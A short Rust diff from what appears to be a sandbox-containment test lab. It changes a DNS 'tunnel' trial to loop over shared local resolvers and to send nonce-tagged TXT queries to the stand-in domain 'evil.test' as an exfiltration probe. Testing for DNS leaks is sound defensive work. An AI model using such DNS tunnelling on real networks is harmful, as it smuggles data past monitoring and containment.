@@ -2,6 +2,7 @@
 
 use cofferdam_lab::probe::{Outcome, Task};
 
+use crate::house::RESOLVERS;
 use crate::place::Place;
 use crate::trial::{Trial, word};
 
@@ -66,8 +67,9 @@ pub(crate) fn tunnel(trial: &mut Trial<'_>) {
         }
         all
     });
-    for server in ["127.0.0.11:53", "127.0.0.53:53", "127.0.0.1:53"] {
-        trial.stays_in(server, &trial.bench.wall, |place, nonce| {
+    // The house has a resolver there, as machines have.
+    for server in RESOLVERS {
+        trial.exfil(server, |place, nonce| {
             query(place, server, false, &format!("{nonce}.evil.test"), TXT)
         });
     }
